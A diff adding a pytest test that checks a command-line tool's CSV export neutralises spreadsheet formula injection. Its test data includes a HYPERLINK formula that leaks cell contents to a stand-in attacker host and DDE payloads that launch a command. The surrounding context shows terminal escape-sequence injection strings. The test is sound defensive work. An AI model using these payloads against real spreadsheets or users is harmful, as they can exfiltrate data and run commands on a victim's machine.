@@ -65,3 +65,27 @@ def test_log_records_and_tracebacks_show_control_characters_escaped(restore_logg
     assert "poll failed: bad ␛]0;PWNED␇␛[2J" in err and "query\tend" in err
     assert "ValueError: server said ␛]0;PWNED" in err
     assert "\x1b" not in err and "\x07" not in err and "\x9b" not in err
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(cli, write_config, tmp_path):
+    import csv
+    import io
+
+    path = write_config()
+    formulas = {
+        "1": ('=HYPERLINK("https://evil.example/?"&A1,"acme refund here") acme awful', "=cmd|' /C calc'!A0"),
+        "2": ("@SUM(1+1)*cmd|' /C calc'!A0 acme awful", "+alice"),
+        "3": ("-2+3 acme is awful", "@bob"),
+        "4": ("\t=1+1 acme is awful", "-carol"),
+    }
+    cli("--config", path, "import", write_jsonl(tmp_path / "m.jsonl", [
+        record(id, text, author=author) for id, (text, author) in formulas.items()]))
+    for command in ("mentions", "negatives"):
+        out = cli("--config", path, command, "--format", "csv").stdout
+        rows = {row["id"]: row for row in csv.DictReader(io.StringIO(out))}
+        assert set(rows) == set(formulas)
+        for id, (text, author) in formulas.items():
+            assert (rows[id]["text"], rows[id]["author"]) == ("'" + text, "'" + author)
+            assert float(rows[id]["compound"]) < 0 and rows[id]["compound"].startswith("-")  # numbers as they are
+    (stored,) = [m for m in json.loads(cli("--config", path, "mentions", "--format", "json").stdout) if m["id"] == "1"]
+    assert stored["text"] == formulas["1"][0]  # JSON and the database keep the text as it is
